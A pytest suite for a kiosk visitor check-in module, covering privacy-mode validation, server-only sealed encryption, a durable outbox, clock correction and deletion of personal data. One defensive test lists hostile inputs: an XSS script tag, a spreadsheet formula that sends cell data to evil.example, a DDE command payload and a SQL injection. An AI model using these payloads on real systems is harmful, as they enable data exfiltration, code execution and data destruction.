"""Check-ins on the kiosk: validation by privacy mode, sealing that only the server can open,
the durable outbox, corrected time, and personal data gone once the server has it."""

from __future__ import annotations

import base64
import json
import queue
import sqlite3
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import requests
from fake_kiosk_api import FakeApi, manifest
from flask import Flask
from flask.testing import FlaskCliRunner
from nacl.public import PrivateKey, SealedBox
from werkzeug.serving import make_server

from kiosk.__main__ import main as kiosk_main
from kiosk.cache import MediaCache
from kiosk.checkin import (
    CheckinError,
    CheckinSettings,
    Confirmation,
    Recorder,
    Visitor,
    mask_name,
)
from kiosk.client import KioskClient
from kiosk.config import DataLayout, load_credentials
from kiosk.hardware import Footfall
from kiosk.heartbeat import Device
from kiosk.journal import CHECKIN, Journal, rfc3339
from kiosk.manifest import parse_checkin
from kiosk.sync import Sync, SyncSettings
from signage_server.extensions import db
from signage_server.models import CheckIn, KioskHour

WALL = 1_790_000_000.0  # 2026-09-21 14:13:20 UTC
NAME = "Nguyễn Thị Ánh Tuyết"
PHONE = "0912 345 678"


def settings(mode: str = "contact", **changes: Any) -> CheckinSettings:
    values: dict[str, Any] = dict(
        privacy_mode=mode, retention_days=21, consent_version=3,
        consent_text_vi="Tôi đồng ý.", consent_text_en="I agree.", timezone="Asia/Ho_Chi_Minh")
    values.update(changes)
    return CheckinSettings(**values)


def staff(**personal: str) -> Visitor:
    return Visitor(direction="in", method="staff", has_app="yes", personal=personal)


@pytest.fixture
def server_key() -> PrivateKey:
    return PrivateKey.generate()


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[Journal]:
    opened = Journal(tmp_path / "journal.sqlite")
    yield opened
    opened.close()


@pytest.fixture
def recorder(journal: Journal, server_key: PrivateKey) -> Recorder:
    return Recorder(journal, bytes(server_key.public_key), settings("full"))


def outbox(journal: Journal) -> list[dict[str, Any]]:
    return [row.payload for row in journal.pending(CHECKIN, 100)]


def opened(server_key: PrivateKey, payload: dict[str, Any]) -> dict[str, str]:
    box = base64.b64decode(payload["sealed"])
    return dict(json.loads(SealedBox(server_key).decrypt(box).decode("utf-8")))


def journal_bytes(path: Path) -> bytes:
    """Everything SQLite keeps on disk for the journal: the file, its WAL and shared memory."""
    return b"".join(p.read_bytes() for p in (path, Path(f"{path}-wal"), Path(f"{path}-shm"))
                    if p.exists())


# -- sealing ----------------------------------------------------------------------------------

def test_personal_fields_are_sealed_for_the_server_only(
        recorder: Recorder, journal: Journal, server_key: PrivateKey) -> None:
    recorder.record(staff(name=NAME, phone=PHONE, organisation="Công ty Điện lực",
                          purpose="Họp", host="Chị Lan"), WALL)
    [payload] = outbox(journal)
    assert opened(server_key, payload) == {"name": NAME, "phone": PHONE,
                                           "organisation": "Công ty Điện lực",
                                           "purpose": "Họp", "host": "Chị Lan"}
    with pytest.raises(Exception):  # noqa: B017  (any CryptoError: the kiosk has no private key)
        SealedBox(PrivateKey.generate()).decrypt(base64.b64decode(payload["sealed"]))
    assert set(payload) == {"client_uuid", "occurred_at", "clock_uncorrected", "direction",
                            "method", "has_app", "consent_version", "sealed"}


def test_the_journal_files_hold_no_plain_personal_text(
        recorder: Recorder, journal: Journal) -> None:
    recorder.record(staff(name=NAME, phone="0987654321", organisation="Bệnh viện Chợ Rẫy"),
                    WALL)
    raw = journal_bytes(journal.path)
    assert Path(f"{journal.path}-wal").stat().st_size > 0  # the commit is in the WAL now
    for text in (NAME, "Tuyết", "0987654321", "Chợ Rẫy", "Ch\\u1ee3"):
        assert text.encode("utf-8") not in raw
    assert b"0987654321" not in raw


def test_record_returns_after_a_durable_commit(recorder: Recorder, journal: Journal) -> None:
    confirmation = recorder.record(staff(name=NAME), WALL)
    other = sqlite3.connect(journal.path)  # a second connection sees the committed row
    try:
        rows = other.execute("SELECT client_uuid, kind FROM outbox").fetchall()
    finally:
        other.close()
    assert rows == [(confirmation.client_uuid, CHECKIN)]
    assert journal.pragma("journal_mode") == "wal"
    assert journal.pragma("synchronous") == 2  # FULL


def test_the_confirmation_masks_the_name_and_names_the_deletion_day(
        recorder: Recorder) -> None:
    confirmation = recorder.record(staff(name="  nguyễn   văn an "), WALL)
    assert confirmation == Confirmation(
        client_uuid=confirmation.client_uuid, direction="in", has_app="yes",
        masked_name="N. V. A.", delete_on=date(2026, 10, 12))
    assert uuid.UUID(confirmation.client_uuid).version == 7


@pytest.mark.parametrize(("name", "masked"), [
    ("Nguyễn Văn An", "N. V. A."),
    ("Đặng Thu Thảo", "Đ. T. T."),
    ("ánh", "Á."),
    ("", None),
    (None, None),
])
def test_mask_name(name: str | None, masked: str | None) -> None:
    assert mask_name(name) == masked


# -- privacy modes ----------------------------------------------------------------------------

@pytest.mark.parametrize(("mode", "personal"), [
    ("count", {"name": NAME}),
    ("count", {"id_last4": "1234"}),
    ("contact", {"organisation": "UBND"}),
    ("contact", {"purpose": "Họp"}),
    ("full", {"address": "12 Lê Lợi"}),
    ("full", {"birth_date": "01011990"}),
])
def test_fields_the_privacy_mode_does_not_allow_are_refused(
        journal: Journal, server_key: PrivateKey, mode: str, personal: dict[str, str]) -> None:
    recorder = Recorder(journal, bytes(server_key.public_key), settings(mode))
    with pytest.raises(CheckinError) as refused:
        recorder.record(staff(**personal), WALL)
    assert "không thu thập" in refused.value.vi and "does not collect" in refused.value.en
    assert outbox(journal) == []


def test_count_mode_records_the_anonymous_check_in(
        journal: Journal, server_key: PrivateKey) -> None:
    recorder = Recorder(journal, bytes(server_key.public_key), settings("count"))
    confirmation = recorder.record(Visitor("out", "button", "no"), WALL)
    [payload] = outbox(journal)
    assert payload["sealed"] is None and payload["consent_version"] is None
    assert (payload["direction"], payload["method"], payload["has_app"]) == ("out", "button", "no")
    assert confirmation.masked_name is None and confirmation.delete_on is None


def test_contact_mode_keeps_the_scanned_id_last4_and_the_consent_version(
        journal: Journal, server_key: PrivateKey) -> None:
    recorder = Recorder(journal, base64.b64encode(bytes(server_key.public_key)).decode(),
                        settings("contact", consent_version=7))
    recorder.record(Visitor("in", "scanner", "unknown", {"name": NAME, "id_last4": "0123"}), WALL)
    [payload] = outbox(journal)
    assert opened(server_key, payload) == {"name": NAME, "id_last4": "0123"}
    assert payload["consent_version"] == 7 and payload["method"] == "scanner"


@pytest.mark.parametrize("number", ["079201012345", "12345", "12a4"])
def test_more_than_the_last_four_id_digits_is_refused(recorder: Recorder, journal: Journal,
                                                      number: str) -> None:
    with pytest.raises(CheckinError, match="last 4 digits"):
        recorder.record(Visitor("in", "scanner", "unknown", {"id_last4": number}), WALL)
    assert outbox(journal) == []


@pytest.mark.parametrize(("field", "value"), [
    ("direction", "sideways"), ("method", "self"), ("has_app", "maybe")])
def test_unknown_choices_are_refused(recorder: Recorder, field: str, value: str) -> None:
    values = {"direction": "in", "method": "staff", "has_app": "yes", field: value}
    with pytest.raises(CheckinError):
        recorder.record(Visitor(**values), WALL)


# -- hostile and unusual input ----------------------------------------------------------------

@pytest.mark.parametrize("value", [
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "Trần 👩‍⚕️ Bảo 🇻🇳",
    "Robert'); DROP TABLE outbox;--",
    "Ngô Bảo Châu",
    "x" * 200,
])
def test_odd_text_is_sealed_exactly_as_typed(
        recorder: Recorder, journal: Journal, server_key: PrivateKey, value: str) -> None:
    recorder.record(staff(name=value, host=value), WALL)
    [payload] = outbox(journal)
    assert opened(server_key, payload) == {"name": value, "host": value}


def test_decomposed_vietnamese_is_stored_composed(
        recorder: Recorder, journal: Journal, server_key: PrivateKey) -> None:
    decomposed = "Nguye\u0302\u0303n Thi\u0323"  # what some keyboards send
    recorder.record(staff(name=decomposed), WALL)
    [payload] = outbox(journal)
    assert opened(server_key, payload)["name"] == "Nguyễn Thị"


@pytest.mark.parametrize(("field", "length"), [("name", 10_000), ("name", 201),
                                               ("purpose", 10_000), ("host", 201)])
def test_overlong_input_is_refused_not_truncated(
        recorder: Recorder, journal: Journal, field: str, length: int) -> None:
    with pytest.raises(CheckinError) as refused:
        recorder.record(staff(**{field: "ệ" * length}), WALL)
    assert "200" in refused.value.vi and "200 characters" in refused.value.en
    assert outbox(journal) == []


@pytest.mark.parametrize("phone", ["12345", "0912-abc-678", "1" * 21, "+84 91 234 5678\x00"])
def test_phone_numbers_are_checked_like_the_server_does(recorder: Recorder, phone: str) -> None:
    with pytest.raises(CheckinError):
        recorder.record(staff(phone=phone), WALL)


def test_control_characters_are_refused(recorder: Recorder) -> None:
    with pytest.raises(CheckinError, match="control"):
        recorder.record(staff(name="An\x00\x1b[31m"), WALL)


def test_blank_fields_count_as_not_given(recorder: Recorder, journal: Journal) -> None:
    confirmation = recorder.record(staff(name="   ", phone=""), WALL)
    [payload] = outbox(journal)
    assert payload["sealed"] is None and confirmation.masked_name is None


# -- time ------------------------------------------------------------------------------------

def test_time_is_corrected_by_the_learned_offset(recorder: Recorder, journal: Journal) -> None:
    journal.set_clock_offset(3600.25)
    recorder.record(staff(), WALL)
    [payload] = outbox(journal)
    assert payload["occurred_at"] == "2026-09-21T15:13:20.250Z"
    assert payload["clock_uncorrected"] is False


def test_time_without_an_offset_is_flagged(recorder: Recorder, journal: Journal) -> None:
    recorder.record(staff(), WALL)
    [payload] = outbox(journal)
    assert payload["occurred_at"] == "2026-09-21T14:13:20.000Z"
    assert payload["clock_uncorrected"] is True


def test_the_deletion_day_is_the_venue_s_local_day() -> None:
    late_evening_utc = 1_790_017_200.0  # 2026-09-21 19:00 UTC = 22-09 02:00 in Hà Nội
    assert settings(retention_days=21).delete_on(late_evening_utc) == date(2026, 10, 13)
    assert settings(timezone="Europe/London").delete_on(late_evening_utc) == date(2026, 10, 12)
    assert settings("count").delete_on(late_evening_utc) is None


# -- no server key or no settings yet ---------------------------------------------------------

def test_without_a_server_key_the_anonymous_part_is_kept_and_the_screen_told(
        journal: Journal) -> None:
    recorder = Recorder(journal, None, settings("contact"))
    confirmation = recorder.record(staff(name=NAME, phone=PHONE), WALL)
    [payload] = outbox(journal)
    assert payload["sealed"] is None and payload["consent_version"] is None
    assert confirmation.personal_dropped and confirmation.masked_name is None
    assert NAME.encode() not in journal_bytes(journal.path)


def test_without_settings_personal_data_is_not_kept(journal: Journal,
                                                    server_key: PrivateKey) -> None:
    recorder = Recorder(journal, bytes(server_key.public_key))
    confirmation = recorder.record(staff(name=NAME), WALL)
    assert confirmation.personal_dropped and outbox(journal)[0]["sealed"] is None
    recorder.use(settings("contact"))
    assert not recorder.record(staff(name=NAME), WALL).personal_dropped


def test_an_unusable_key_is_treated_as_none(journal: Journal) -> None:
    recorder = Recorder(journal, "not base64!", settings("contact"))
    assert not recorder.can_seal
    assert recorder.record(staff(name=NAME), WALL).personal_dropped


def test_no_personal_text_reaches_the_log(
        journal: Journal, server_key: PrivateKey, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG")
    Recorder(journal, None, settings("contact")).record(staff(name=NAME), WALL)
    recorder = Recorder(journal, bytes(server_key.public_key), settings("contact"))
    recorder.record(staff(name=NAME, phone=PHONE), WALL)
    with pytest.raises(CheckinError):
        recorder.record(staff(name=NAME, organisation="Bí mật"), WALL)
    assert caplog.records  # the dropped data was logged as an event...
    assert all(NAME not in r.getMessage() and "Bí mật" not in r.getMessage()
               for r in caplog.records)  # ...without its content


# -- after the server answered ----------------------------------------------------------------

def test_acknowledged_check_ins_leave_no_sealed_box_on_disk(
        recorder: Recorder, journal: Journal) -> None:
    recorder.record(staff(name=NAME), WALL)
    [row] = journal.pending(CHECKIN, 10)
    sealed = row.payload["sealed"].encode()
    assert sealed[:64] in journal_bytes(journal.path)
    settled = journal.settle(CHECKIN, [row], [{"index": 0, "client_uuid": row.client_uuid,
                                               "status": "accepted"}], WALL)
    assert settled.acknowledged == 1
    raw = journal_bytes(journal.path)
    assert sealed[:64] not in raw and sealed[-64:] not in raw
    assert journal.unsynced()[CHECKIN] == 0


def test_rejected_check_ins_keep_their_counts_not_their_personal_data(
        recorder: Recorder, journal: Journal) -> None:
    recorder.record(staff(name=NAME), WALL)
    [row] = journal.pending(CHECKIN, 10)
    sealed = row.payload["sealed"].encode()
    journal.settle(CHECKIN, [row], [{"index": 0, "client_uuid": row.client_uuid,
                                     "status": "rejected", "reason": "sealed: bad"}], WALL)
    [dead] = journal.dead_letters()
    assert dead["client_uuid"] == row.client_uuid and dead["reason"] == "sealed: bad"
    other = sqlite3.connect(journal.path)
    try:
        [(stored,)] = other.execute("SELECT payload FROM dead_letter").fetchall()
    finally:
        other.close()
    kept = json.loads(stored)
    assert "sealed" not in kept
    assert (kept["direction"], kept["method"], kept["has_app"]) == ("in", "staff", "yes")
    assert sealed[:64] not in journal_bytes(journal.path)


def test_unanswered_check_ins_stay_sealed_in_the_outbox(
        recorder: Recorder, journal: Journal) -> None:
    recorder.record(staff(name=NAME), WALL)
    rows = journal.pending(CHECKIN, 10)
    settled = journal.settle(CHECKIN, rows, [], WALL)
    assert settled.unanswered == 1 and outbox(journal)[0]["sealed"]


# -- against the real server ------------------------------------------------------------------

@pytest.fixture
def live_url(app: Flask) -> Iterator[str]:
    """The real app behind werkzeug on a loopback port."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.port}"
    app.config["PUBLIC_URL"] = url
    yield url
    server.shutdown()
    server.server_close()
    thread.join(5)


def test_a_check_in_reaches_the_server_and_its_personal_data_leaves_the_kiosk(
        app: Flask, runner: FlaskCliRunner, live_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    made = runner.invoke(args=["venue", "add", "Bệnh viện Bạch Mai", "--kind", "hospital",
                               "--privacy", "contact", "--json"])
    venue = json.loads(made.output.strip().splitlines()[-1])["id"]
    added = runner.invoke(args=["kiosk", "add", "--venue", str(venue), "--json"])
    code = json.loads(added.output.strip().splitlines()[-1])["enrollment_code"]
    layout = DataLayout(tmp_path / "kiosk-data")
    assert kiosk_main(["--data", str(layout.root), "enroll", code, "--server", live_url]) == 0
    capsys.readouterr()
    credentials = load_credentials(layout)
    assert credentials is not None
    journal = Journal(layout.journal)
    with requests.Session() as session:
        client = KioskClient(session, credentials.server_url, credentials.token, timeout_s=5)
        manifest, _ = client.manifest(None)
        assert manifest is not None
        venue_settings = parse_checkin(manifest["checkin"], manifest["venue"]["timezone"])
        assert venue_settings is not None and venue_settings.privacy_mode == "contact"
        recorder = Recorder(journal, credentials.server_public_key, venue_settings)
        journal.set_clock_offset(client.clock_offset_s)
        confirmation = recorder.record(
            Visitor("in", "staff", "installed_now", {"name": "Lê Văn Tám", "phone": PHONE}),
            time.time())
        [row] = journal.pending(CHECKIN, 10)
        sealed = row.payload["sealed"].encode()
        footfall = Footfall()
        footfall.add(4)  # the PIR saw four people pass meanwhile
        sync = Sync(client, journal, MediaCache(layout.media, 0), queue.Queue(),
                    SyncSettings(heartbeat_screenshot=False),
                    Device("0.1.0", layout.root, lambda _: 10**10), footfall=footfall,
                    rnd=lambda: 0.0)
        sync.run_round()
    assert journal.unsynced()[CHECKIN] == 0
    assert footfall.pending() == 0
    raw = journal_bytes(layout.journal)
    assert sealed[:64] not in raw and sealed[-64:] not in raw and "Tám".encode() not in raw
    journal.close()
    with app.app_context():
        stored = db.session.execute(db.select(CheckIn)).scalar_one()
        assert str(stored.client_uuid) == confirmation.client_uuid
        assert (stored.name, stored.phone) == ("Lê Văn Tám", PHONE)
        assert stored.consent_version == venue_settings.consent_version
        assert stored.has_app == "installed_now" and not stored.clock_uncorrected
        hour = db.session.execute(db.select(KioskHour)).scalar_one()
        assert (hour.kiosk_id, hour.footfall) == (credentials.kiosk_id, 4)


# -- the manifest's checkin object ------------------------------------------------------------

@pytest.mark.parametrize(("raw", "expected"), [
    ({"privacy_mode": "full", "retention_days": 14, "consent_version": 2,
      "consent": {"vi": " Đồng ý ", "en": "Agree"}},
     settings("full", retention_days=14, consent_version=2, consent_text_vi="Đồng ý",
              consent_text_en="Agree")),
    ({"privacy_mode": "everything", "retention_days": 21},  # unknown: keep nothing personal
     settings("count", consent_version=None, consent_text_vi="", consent_text_en="")),
    ({"privacy_mode": "contact", "retention_days": 365, "consent_version": -1},
     settings("contact", retention_days=30, consent_version=None, consent_text_vi="",
              consent_text_en="")),
    ({"privacy_mode": "contact", "retention_days": "21"},
     settings("contact", consent_version=None, consent_text_vi="", consent_text_en="")),
])
def test_the_manifest_s_checkin_settings_are_clamped(raw: dict[str, Any],
                                                     expected: CheckinSettings) -> None:
    assert parse_checkin(raw, "Asia/Ho_Chi_Minh") == expected


@pytest.mark.parametrize("raw", [None, [], "contact"])
def test_no_checkin_object_means_no_settings(raw: object) -> None:
    assert parse_checkin(raw, "Asia/Ho_Chi_Minh") is None


# -- unsent check-ins past the venue's retention ----------------------------------------------

DAY = 86400.0


def test_unsent_personal_data_past_retention_is_dropped_counts_kept(
        tmp_path: Path, server_key: PrivateKey) -> None:
    path = tmp_path / "kept.sqlite"
    before = Journal(path, boot_id="boot-1")
    before.set_clock_offset(0.0)
    recorder = Recorder(before, bytes(server_key.public_key), settings("contact"))
    recorder.record(staff(name=NAME), WALL - 22 * DAY)  # older than 21 days
    recorder.record(staff(name=NAME), WALL - 20 * DAY)
    before.close()
    journal = Journal(path, boot_id="boot-2")  # a reboot: no clock correction yet
    try:
        Recorder(journal, bytes(server_key.public_key), settings("contact")).record(
            staff(name=NAME), WALL - 25 * DAY)  # its time cannot be trusted
        old_box = outbox(journal)[0]["sealed"].encode()
        assert journal.expire_personal(rfc3339(WALL - 21 * DAY)) == 1
        old, recent, uncorrected = outbox(journal)
        assert old["sealed"] is None and old["direction"] == "in"
        assert recent["sealed"] and uncorrected["sealed"] and uncorrected["clock_uncorrected"]
        assert old_box[:64] not in journal_bytes(path)
    finally:
        journal.close()


def test_the_sync_thread_expires_unsent_personal_data_while_offline(
        tmp_path: Path, recorder: Recorder, journal: Journal) -> None:
    api = FakeApi()
    api.publish({**manifest("v1"), "checkin": {"privacy_mode": "full", "retention_days": 14}})
    monotonic = [1000.0]
    sync = Sync(api, journal, MediaCache(tmp_path / "media", 0, lambda _: 10**12),
                queue.Queue(), SyncSettings(heartbeat_screenshot=False),
                Device("0.1.0", tmp_path, lambda _: 10**10), clock=lambda: WALL,
                monotonic=lambda: monotonic[0], rnd=lambda: 0.0)
    sync.run_round()  # the venue's manifest arrives
    journal.set_clock_offset(0.0)
    recorder.record(staff(name=NAME), WALL - 15 * DAY)
    recorder.record(staff(name=NAME), WALL - 13 * DAY)
    api.down = True  # and then the network goes
    monotonic[0] += 3600
    sync.run_round()
    old, recent = outbox(journal)
    assert old["sealed"] is None and recent["sealed"]
